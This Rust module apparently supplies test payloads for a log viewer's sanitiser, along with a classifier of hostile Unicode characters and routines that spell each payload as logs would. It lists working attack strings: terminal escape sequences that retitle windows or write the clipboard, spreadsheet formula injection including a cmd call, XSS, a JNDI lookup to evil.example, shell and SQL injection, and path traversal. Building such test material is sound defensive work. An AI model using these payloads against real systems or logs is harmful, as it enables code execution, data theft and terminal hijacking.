//! What strangers write into logs to reach whoever reads them, and the ways in which it is spelled there.

/// What must reach no reader raw, line breaks of the output itself aside: a list of its own, from the blocks of Unicode,
/// so that a mistake in dwell's own list shows.
pub(crate) fn is_hostile(character: char) -> bool {
    let code = u32::from(character);
    let is_listed = matches!(code,
        0..=0x1f | 0x7f..=0xa0 | 0xad
        // Marks and fillers that take no place.
        | 0x34f | 0x61c | 0x115f | 0x1160 | 0x1680 | 0x180b..=0x180f | 0x3164 | 0xffa0
        // General Punctuation: its spaces, joiners, marks of direction, separators, invisible operators.
        | 0x2000..=0x200f | 0x2028..=0x202f | 0x205f..=0x206f
        | 0x2800 | 0x3000 | 0xfe00..=0xfe0f | 0xfeff
        // Specials, noncharacters, private use.
        | 0xfff9..=0xfffc | 0xfdd0..=0xfdef | 0xe000..=0xf8ff
        // Unassigned planes, tags, more variation selectors, planes of private use.
        | 0x40000..);
    is_listed || code & 0xfffe == 0xfffe
}

/// The payloads, each once.
pub(crate) fn all() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = Vec::new();
    all.extend(terminal_sequences().into_iter().map(String::into_bytes));
    all.extend(single_characters().into_iter().map(String::into_bytes));
    all.extend(for_other_programs().into_iter().map(str::as_bytes).map(<[u8]>::to_vec));
    all.extend(long_and_piled().into_iter().map(String::into_bytes));
    all.extend(broken_bytes().into_iter().map(<[u8]>::to_vec));
    all.sort();
    all.dedup();
    all
}

fn terminal_sequences() -> Vec<String> {
    let mut all = Vec::new();
    let commands = [
        "0;owned",
        "1;owned",
        "2;owned",
        "4;1;red",
        "7;file:///etc",
        "8;;https://evil.example",
        "9;owned",
        "10;#f00",
        "11;#f00",
        "12;#f00",
        "50;font",
        "52;c;b3duZWQ=",
        "52;c;?",
        "99;;owned",
        "104",
        "133;A",
        "777;notify;a;b",
        "1337;File=inline=1:AAAA",
    ];
    for command in commands {
        all.push(format!("\u{1b}]{command}\u{7}"));
        all.push(format!("\u{1b}]{command}\u{1b}\\"));
    }
    let controls = [
        "2J", "3J", "H", "1;1H", "999A", "999D", "31m", "8m", "7m", "4h", "r", "2;3r", "s", "u", "6n", "c",
        ">c", "5i", "4i", "21t", "8;5;5t", "!p", "?1h", "?5h", "?25h", "?47h", "?1000h", "?1003h", "?1049h",
        "?1049l", "?2004l", "?2026h", "=1u", "999b", "10@", "10P", "10L", "10M",
    ];
    all.extend(controls.map(|control| format!("\u{1b}[{control}owned")));
    let escapes = [
        "c",
        "7",
        "8",
        "D",
        "E",
        "M",
        "H",
        "=",
        ">",
        "(0",
        ")0",
        "#8",
        "N",
        "O",
        "Z",
        "n",
        "o",
        "P$qm\u{1b}\\",
        "Pq#0;2;0;0;0\u{1b}\\",
        "^pm\u{1b}\\",
        "_Gapc\u{1b}\\",
        "Xsos\u{1b}\\",
        "]",
        "[",
        "",
    ];
    all.extend(escapes.map(|escape| format!("\u{1b}{escape}")));
    all
}

fn single_characters() -> Vec<String> {
    let controls = ('\0'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    let directions =
        "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    let unseen =
        "\u{ad}\u{34f}\u{180e}\u{200b}\u{200c}\u{200d}\u{2028}\u{2029}\u{2060}\u{2061}\u{2064}\u{feff}";
    let blank = "\u{a0}\u{115f}\u{1160}\u{1680}\u{2003}\u{200a}\u{202f}\u{205f}\u{2800}\u{3000}\u{3164}\u{ffa0}\u{fffc}";
    let selected = "\u{fe00}\u{fe0f}\u{180b}\u{e0100}\u{e01ef}\u{e0001}\u{e0041}\u{e007f}";
    let nobodys = "\u{e000}\u{f8ff}\u{f0000}\u{10fffd}\u{fdd0}\u{fffe}\u{1ffff}\u{10ffff}\u{fff9}\u{fffb}";
    let letters = [directions, unseen, blank, selected, nobodys].concat();
    // Behind a control character stands what it may begin.
    controls
        .map(|one| format!("{one}31mowned"))
        .chain(letters.chars().map(|one| format!("gpj{one}exe")))
        .collect()
}

fn for_other_programs() -> [&'static str; 44] {
    [
        // Spreadsheets.
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example\")",
        "\",=1+1",
        "'=1+1",
        // JSON, TOML, logfmt.
        "\"",
        "\\",
        "\\\"",
        "\",\"status\":200,\"x\":\"",
        "\\u001b[2J",
        "\\ud800",
        "}]}",
        "{",
        "null",
        "\" path=/other ",
        // Browsers.
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</title>",
        "&#27;[2J",
        "javascript:alert(1)",
        // Format strings, shells, templates, data bases.
        "%s%n%s%n",
        "%1$s",
        "{}{0}{:?}",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
        "`id`",
        ";id|id&",
        "' OR 1=1 --",
        // Files.
        "../../../../etc/passwd",
        "..%2f..%2f",
        "%00",
        "C:\\con",
        "file:///etc/passwd",
    ]
}

fn long_and_piled() -> Vec<String> {
    let pile = |mark: char, times: usize| format!("o{}", mark.to_string().repeat(times));
    vec![
        "a".repeat(1000),
        "/".repeat(300),
        "日".repeat(200),
        "\u{202e}".repeat(100),
        "\u{5d0}".repeat(100),
        pile('\u{300}', 60),
        pile('\u{20dd}', 20),
        pile('\u{e49}', 30),
        pile('\u{fe0f}', 30),
        "\u{301}leads".to_owned(),
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".to_owned(),
        "\u{fdfd}\u{12031}".to_owned(),
    ]
}

fn broken_bytes() -> [&'static [u8]; 20] {
    [
        b"\xff",
        b"\xfe",
        b"\xc3",
        b"\xe2\x80",
        b"\xf0\x9f",
        b"\xc0\x80",
        b"\xc0\x9b[2J",
        b"\xe0\x80\x9b[2J",
        b"\xed\xa0\x80",
        b"\xed\xb0\x80",
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\x9b2J",
        b"\x9d0;owned\x07",
        b"\x90q\x9c",
        b"\x98sos\x9c",
        b"\x9epm\x9c",
        b"\x9fapc\x9c",
        b"\x84\x85\x8d\x8e\x8f",
        b"\x1b\xc3[2J",
    ]
}

/// How a payload stands in a log.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Spelling {
    /// As it came.
    Raw,
    /// As a client sends it in a URL: `%1B`.
    Percent,
    /// As nginx and Apache write it: `\x1B`.
    Hexadecimal,
    /// As JSON has it: `\u001b`; where there is no JSON, as a URL within a URL has it: `%251B`.
    Twofold,
}

impl Spelling {
    pub(crate) const ALL: [Spelling; 4] =
        [Spelling::Raw, Spelling::Percent, Spelling::Hexadecimal, Spelling::Twofold];

    pub(crate) fn of(self, payload: &[u8], is_json: bool) -> Vec<u8> {
        let byte_by_byte =
            |spelled: fn(u8) -> String| payload.iter().flat_map(|&byte| spelled(byte).into_bytes()).collect();
        match self {
            Spelling::Raw => payload.to_vec(),
            Spelling::Percent => byte_by_byte(|byte| format!("%{byte:02X}")),
            Spelling::Hexadecimal => byte_by_byte(|byte| match byte {
                b' '..=b'~' if byte != b'"' && byte != b'\\' => char::from(byte).to_string(),
                _ => format!("\\x{byte:02X}"),
            }),
            Spelling::Twofold if is_json => in_json(payload),
            Spelling::Twofold => byte_by_byte(|byte| format!("%25{byte:02X}")),
        }
    }
}

/// All of it in escapes; bytes that are no text are halves of pairs without the other half.
fn in_json(payload: &[u8]) -> Vec<u8> {
    let mut units = Vec::new();
    for chunk in payload.utf8_chunks() {
        units.extend(chunk.valid().encode_utf16());
        units.extend(chunk.invalid().iter().map(|&byte| 0xdc00 | u16::from(byte)));
    }
    units.iter().flat_map(|unit| format!("\\u{unit:04x}").into_bytes()).collect()
}
